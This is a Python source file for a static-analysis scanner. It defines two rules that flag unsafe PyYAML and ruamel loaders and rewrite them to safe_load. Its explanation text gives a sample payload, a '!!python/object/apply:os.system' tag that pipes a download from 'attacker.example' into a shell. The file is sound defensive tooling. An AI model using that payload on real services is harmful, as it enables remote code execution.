"""PY-YAML-001 yaml-unsafe-load-of-input and PY-YAML-002 yaml-unsafe-loader: YAML parsed with a loader that builds Python objects.

**What they find.** `yaml.load()` / `yaml.load_all()` without a loader or with
`Loader=yaml.Loader`, `UnsafeLoader`, `FullLoader` (or their C variants);
`yaml.unsafe_load()`, `yaml.full_load()` and their `_all` forms; ruamel's
`YAML(typ="unsafe")`. **PY-YAML-001** (CWE-502, critical) is the call on a
document that comes from a request: remote code execution as it stands.
**PY-YAML-002** (CWE-676, dangerous function) is the same call on a document
of unknown or local origin (a configuration file, a message from a queue, a
constant): the pattern is the flaw, because the day that document comes from
somewhere else the code runs whatever it says, so it is reported too, with a
lower severity and the same fix.

**Not reported.** `yaml.safe_load()`, `Loader=yaml.SafeLoader` /
`CSafeLoader` / `BaseLoader`, and loaders whose name says they are safe
(`Loader=MySafeLoader`) or that subclass a safe loader in the same file.

**Fix.** "Use yaml.safe_load" renames the call to `safe_load` (`safe_load_all`)
and drops the loader argument; ruamel's `typ="unsafe"` becomes `typ="safe"`.
For plain data (mappings, lists, strings, numbers, booleans, dates) the result
is identical; only Python-specific tags (`!!python/object`, ...) stop working,
which is the point. No fix is offered for a custom loader class, whose extra
constructors `safe_load` would drop.
"""

from __future__ import annotations

from typing import Iterator

from tree_sitter import Node

from ....common.names import last_parts
from ....context import AnalysisContext
from ....model import Confidence, Edit, Finding, Fix, Severity
from ....python.arguments import argument_value, remove_argument
from ....python.dataflow import reaching_definitions
from ....python.inputs import remote_taint
from ....python.names import calls_named, class_ancestors, qualified_name
from ....python.strings import literal_value
from ...base import Explanation, Rule, register

LOADING_FUNCTIONS = {"yaml.load": "safe_load", "yaml.load_all": "safe_load_all"}
UNSAFE_FUNCTIONS = {
    "yaml.unsafe_load": "safe_load",
    "yaml.unsafe_load_all": "safe_load_all",
    "yaml.full_load": "safe_load",
    "yaml.full_load_all": "safe_load_all",
}
SAFE_LOADERS = frozenset({"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"})
UNSAFE_LOADERS = frozenset({"Loader", "CLoader", "UnsafeLoader", "CUnsafeLoader", "FullLoader", "CFullLoader"})
RUAMEL_YAML = frozenset({"ruamel.yaml.YAML", "ruamel.yaml.main.YAML"})


def _local_receiver(ctx: AnalysisContext, call: Node) -> bool:
    function = call.child_by_field_name("function")
    receiver = function.child_by_field_name("object") if function.type == "attribute" else None
    return receiver is not None and receiver.type == "identifier" and bool(reaching_definitions(ctx, receiver))


_EXPLANATION = Explanation(
    what="The YAML document is parsed with a loader that honours Python-specific tags and builds objects from them.",
    why=(
        "For ordinary configuration the result looks exactly like `safe_load`'s, so nothing seems wrong. But "
        "whoever writes the document chooses which Python objects get constructed and with which arguments; "
        "with the full `Loader` that means calling any importable function while the file is parsed."
    ),
    hostile_input='`!!python/object/apply:os.system ["curl attacker.example/x | sh"]` runs a shell command during parsing.',
    fix=(
        "Use `yaml.safe_load(stream)` (or `yaml.load(stream, Loader=yaml.SafeLoader)`); it accepts every plain "
        "YAML document and rejects Python tags."
    ),
)


_LAST_NAMES = last_parts(LOADING_FUNCTIONS.keys() | UNSAFE_FUNCTIONS.keys() | RUAMEL_YAML)
"""The last part of the name of every call the rules look at."""


class _UnsafeYamlLoad(Rule):
    """The detection both rules share; each keeps the calls its evidence fits."""

    fix_title = "Use yaml.safe_load"
    languages = ("python",)
    explanation = _EXPLANATION
    triggers = tuple(sorted(_LAST_NAMES))
    for_input: bool

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for call, name in calls_named(ctx, _LAST_NAMES):
            if name not in LOADING_FUNCTIONS and name not in UNSAFE_FUNCTIONS and name not in RUAMEL_YAML:
                continue
            if _local_receiver(ctx, call):
                continue  # `yaml = YAML(typ="rt"); yaml.load(...)`: a local object, not the module
            if name in LOADING_FUNCTIONS:
                finding = self._check_load(ctx, call, LOADING_FUNCTIONS[name])
            elif name in UNSAFE_FUNCTIONS:
                finding = self._report(ctx, call, UNSAFE_FUNCTIONS[name], loader=None, how=f"`{name.split('.')[-1]}()`")
            elif name in RUAMEL_YAML:
                finding = self._check_ruamel(ctx, call)
            else:
                finding = None
            if finding is not None:
                yield finding

    def _check_load(self, ctx: AnalysisContext, call: Node, safe_name: str) -> Finding | None:
        loader = argument_value(ctx, call, "Loader", position=1)
        if loader is None:
            return self._report(ctx, call, safe_name, loader=None, how="`yaml.load()` without a safe `Loader`")
        loader_name = (qualified_name(ctx, loader) or ctx.text(loader)).split(".")[-1]
        lineage = {loader_name} | {base.split(".")[-1] for base in class_ancestors(ctx, ctx.text(loader))}
        if lineage & SAFE_LOADERS or ("safe" in loader_name.lower() and "unsafe" not in loader_name.lower()):
            return None
        known = loader_name in UNSAFE_LOADERS
        return self._report(ctx, call, safe_name, loader=loader, how=f"`Loader={ctx.text(loader)}`", fixable=known)

    def _check_ruamel(self, ctx: AnalysisContext, call: Node) -> Finding | None:
        typ = argument_value(ctx, call, "typ")
        if typ is None or literal_value(ctx, typ) != "unsafe":
            return None
        if self.for_input:
            return None  # a constructor: no document to trace, reported as PY-YAML-002
        fix = Fix('Use typ="safe"', (Edit(typ.start_byte, typ.end_byte, '"safe"'),))
        message = 'Unsafe YAML load: ruamel `YAML(typ="unsafe")` constructs arbitrary Python objects; use typ="safe"'
        return self.finding(ctx, call, message, fixes=(fix,))

    def _report(self, ctx: AnalysisContext, call: Node, safe_name: str, *, loader: Node | None, how: str, fixable: bool = True) -> Finding | None:
        stream = argument_value(ctx, call, "stream", position=0)
        taint = remote_taint(ctx, stream)
        if (taint is not None) != self.for_input:
            return None
        origin = f" on data from {taint.source} (line {taint.line})" if taint else ""
        message = f"Unsafe YAML load{origin}: {how} can construct arbitrary Python objects; use yaml.safe_load"
        fixes = ()
        if fixable:
            fix = self._fix(ctx, call, safe_name, loader)
            fixes = (fix,) if fix is not None else ()
        return self.finding(ctx, call, message, fixes=fixes)

    def _fix(self, ctx: AnalysisContext, call: Node, safe_name: str, loader: Node | None) -> Fix | None:
        function = call.child_by_field_name("function")
        edits: list[Edit] = []
        imports: tuple[str, ...] = ()
        if function.type == "attribute":
            attribute = function.child_by_field_name("attribute")
            edits.append(Edit(attribute.start_byte, attribute.end_byte, safe_name))
        elif function.type == "identifier":
            edits.append(Edit(function.start_byte, function.end_byte, safe_name))
            imports = (f"from yaml import {safe_name}",)
        else:
            return None
        if loader is not None:
            argument = loader.parent if loader.parent is not None and loader.parent.type == "keyword_argument" else loader
            removal = remove_argument(ctx, call, argument)
            if removal is None:
                return None
            edits.append(removal)
        return Fix(f"Use yaml.{safe_name}", tuple(edits), imports)


@register
class YamlUnsafeLoadOfInput(_UnsafeYamlLoad):
    id = "PY-YAML-001"
    name = "yaml-unsafe-load-of-input"
    cwe = 502
    owasp = "A08:2021"
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    summary = "YAML from a request loaded with a loader that constructs arbitrary Python objects"
    for_input = True


@register
class YamlUnsafeLoader(_UnsafeYamlLoad):
    id = "PY-YAML-002"
    name = "yaml-unsafe-loader"
    cwe = 676
    owasp = "A08:2021"
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    summary = "YAML loaded with a loader that can construct arbitrary Python objects (use yaml.safe_load)"
    for_input = False
